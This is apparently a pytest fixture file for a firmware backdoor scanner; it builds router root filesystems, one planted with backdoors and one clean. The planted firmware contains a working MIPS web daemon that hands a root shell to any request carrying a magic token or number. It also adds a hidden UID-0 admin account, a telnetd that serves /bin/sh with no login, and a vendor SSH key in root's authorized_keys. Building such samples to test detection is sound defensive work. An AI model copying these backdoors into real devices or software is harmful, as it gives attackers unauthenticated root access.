"""Firmware images built during the test run: root filesystems with and without a
backdoor, packed with mksquashfs, and a MIPS program compiled with the cross compiler."""

from __future__ import annotations

import secrets
import shutil
import subprocess
import warnings
from dataclasses import dataclass
from pathlib import Path

import pytest

from doorwatch.scan.rootfs import _default_passwords

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    import crypt

MAGIC_TOKEN = "Qv7-door-2231"
MAGIC_NUMBER = 0x1337C0DE

MIPS_PROGRAM = r"""
#include <netinet/in.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The device's web daemon: a request whose token is a fixed string, or whose first word
   is a fixed number, gets a root shell on the connection. */
static void serve(int client) {
    char request[512];
    ssize_t n = recv(client, request, sizeof request - 1, 0);
    if (n <= 0)
        return;
    request[n] = '\0';
    uint32_t word;
    memcpy(&word, request, sizeof word);
    char *token = strstr(request, "token=");
    if ((token && strcmp(token + 6, "%(token)s") == 0) || ntohl(word) == %(number)#xU) {
        dup2(client, 0);
        dup2(client, 1);
        execl("/bin/sh", "sh", (char *)NULL);
    }
    send(client, "HTTP/1.0 401 Unauthorized\r\n\r\n", 30, 0);
}

int main(void) {
    int server = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(80)};
    bind(server, (struct sockaddr *)&address, sizeof address);
    listen(server, 8);
    for (;;) {
        int client = accept(server, NULL, NULL);
        serve(client);
        close(client);
    }
}
""" % {"token": MAGIC_TOKEN, "number": MAGIC_NUMBER}

PASSWD = """root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
"""

INITTAB = """::sysinit:/etc/init.d/rcS
ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100
::shutdown:/bin/umount -a -r
"""


@dataclass(frozen=True)
class Firmware:
    tree: Path
    image: Path
    root_password: str | None
    admin_password: str | None


def need(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        pytest.fail(f"{tool} is needed to build the test firmware")
    return path


def run(*command: str | Path, cwd: Path | None = None) -> None:
    subprocess.run([str(part) for part in command], check=True, capture_output=True, cwd=cwd)


def write(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


CLEAN_MIPS_PROGRAM = r"""
#include <stdio.h>

int main(void) {
    char request[256];
    if (!fgets(request, sizeof request, stdin))
        return 1;
    puts("HTTP/1.0 401 Unauthorized");
    return 0;
}
"""


def compile_mips(work: Path, name: str, source: str) -> Path:
    (work / f"{name}.c").write_text(source)
    run(need("mips-linux-gnu-gcc"), "-O1", "-o", work / name, work / f"{name}.c")
    return work / name


@pytest.fixture(scope="session")
def mips_magic() -> tuple[str, int]:
    """The MIPS program's triggers: the token string and the number it compares against."""
    return MAGIC_TOKEN, MAGIC_NUMBER


@pytest.fixture(scope="session")
def mips_program(tmp_path_factory) -> Path:
    """A web server with a magic-string and a magic-number trigger that open a shell."""
    return compile_mips(tmp_path_factory.mktemp("mips"), "webd", MIPS_PROGRAM)


@pytest.fixture(scope="session")
def clean_mips_program(tmp_path_factory) -> Path:
    return compile_mips(tmp_path_factory.mktemp("mips-clean"), "webd", CLEAN_MIPS_PROGRAM)


def _base_tree(root: Path, mips_program: Path, shadow: str) -> None:
    for directory in ("bin", "sbin", "lib", "usr/sbin", "var", "dev", "proc", "root"):
        (root / directory).mkdir(parents=True, exist_ok=True)
    write(root / "etc/passwd", PASSWD)
    write(root / "etc/shadow", shadow, 0o600)
    write(root / "etc/inittab", INITTAB)
    shutil.copy(mips_program, root / "usr/sbin/webd")
    # Things that look like keys but are not secrets: a public key, a certificate and a
    # header that spells the PEM markers, as libcrypto does.
    run(need("openssl"), "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
        "-nodes", "-keyout", root / "cert-key.tmp", "-out", root / "etc/server.crt",
        "-subj", "/CN=device", "-days", "1")
    (root / "cert-key.tmp").unlink()
    write(root / "usr/include/pem.h",
          '#define PEM_RSA "-----BEGIN RSA PRIVATE KEY-----"\n'
          '#define PEM_END "-----END RSA PRIVATE KEY-----"\n')
    (root / "bin/busybox").symlink_to("/etc/passwd")  # a link leaving the image


def _squashfs(tree: Path, image: Path) -> Path:
    run(need("mksquashfs"), tree, image, "-noappend", "-quiet", "-no-progress", "-comp", "xz")
    return image


@pytest.fixture(scope="session")
def backdoored_firmware(tmp_path_factory, mips_program) -> Firmware:
    """A router root filesystem with default passwords, a shell on telnet and shipped keys."""
    work = tmp_path_factory.mktemp("backdoored")
    root = work / "rootfs"
    passwords = _default_passwords()
    root_password, admin_password = passwords[len(passwords) // 2], passwords[-1]
    shadow = (f"root:{crypt.crypt(root_password, crypt.mksalt(crypt.METHOD_SHA512))}:19000:0:99999:7:::\n"
              f"admin:{crypt.crypt(admin_password, crypt.mksalt(crypt.METHOD_MD5))}:19000:0:99999:7:::\n"
              "daemon:*:19000:0:99999:7:::\n")
    _base_tree(root, mips_program, shadow)
    with open(root / "etc/passwd", "a") as passwd:
        passwd.write("admin:x:0:0:admin:/root:/bin/sh\n")
    write(root / "etc/init.d/rcS",
          "#!/bin/sh\nmount -a\n/usr/sbin/telnetd -l /bin/sh &\n/usr/sbin/webd &\n", 0o755)
    (root / "etc/ssl/private").mkdir(parents=True)
    run(need("openssl"), "ecparam", "-genkey", "-name", "prime256v1", "-noout",
        "-out", root / "etc/ssl/private/device.key")
    (root / "etc/dropbear").mkdir()
    run(need("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-C", "vendor-support@factory",
        "-f", root / "etc/dropbear/vendor_ed25519")
    (root / "root/.ssh").mkdir()
    shutil.copy(root / "etc/dropbear/vendor_ed25519.pub", root / "root/.ssh/authorized_keys")
    return Firmware(root, _squashfs(root, work / "firmware.sqfs"), root_password, admin_password)


@pytest.fixture(scope="session")
def clean_firmware(tmp_path_factory, clean_mips_program) -> Firmware:
    """The same device with a strong password, no telnet and no key."""
    work = tmp_path_factory.mktemp("clean")
    root = work / "rootfs"
    strong = secrets.token_urlsafe(18)
    shadow = (f"root:{crypt.crypt(strong, crypt.mksalt(crypt.METHOD_SHA512))}:19000:0:99999:7:::\n"
              "daemon:*:19000:0:99999:7:::\n")
    _base_tree(root, clean_mips_program, shadow)
    write(root / "etc/init.d/rcS",
          "#!/bin/sh\nmount -a\n[ -x /usr/sbin/telnetd ] && echo telnetd disabled\n"
          "killall telnetd 2>/dev/null\n/usr/sbin/webd &\n", 0o755)
    return Firmware(root, _squashfs(root, work / "firmware.sqfs"), None, None)
